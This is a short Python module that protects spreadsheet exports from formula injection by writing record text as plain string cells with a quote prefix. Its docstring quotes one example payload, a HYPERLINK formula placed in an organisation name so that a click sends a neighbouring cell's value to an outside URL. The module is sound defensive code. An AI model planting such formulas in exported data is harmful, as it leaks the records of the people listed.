"""Text from the records goes into a spreadsheet as text, never as a formula.

openpyxl turns any str that starts with "=" into a live formula, so an organisation named
``=HYPERLINK("http://…?leak="&A3,"click")`` would become a link that sends a neighbouring cell's name away when
clicked. Every writer passes its text through ``text_cell``: the cell is typed as a string (written as the text it
is), and a text that a spreadsheet would read as a formula once someone edits the cell (= + - @) also gets Excel's
quote prefix, which keeps it text after an edit in Excel and LibreOffice."""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@")


def needs_guard(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def as_text(cell) -> Any:
    """Make ``cell`` (a worksheet cell or a WriteOnlyCell) hold its str value as plain text; returns the cell."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
        if cell.value.startswith(FORMULA_STARTS):
            cell.quotePrefix = True
    return cell


def text_cell(ws, value: Any) -> Any:
    """For a write-only sheet's row: ``value`` itself, or a text cell where openpyxl (or a person editing the cell
    later) would take the text for a formula."""
    if not needs_guard(value):
        return value
    from openpyxl.cell import WriteOnlyCell

    return as_text(WriteOnlyCell(ws, value=value))
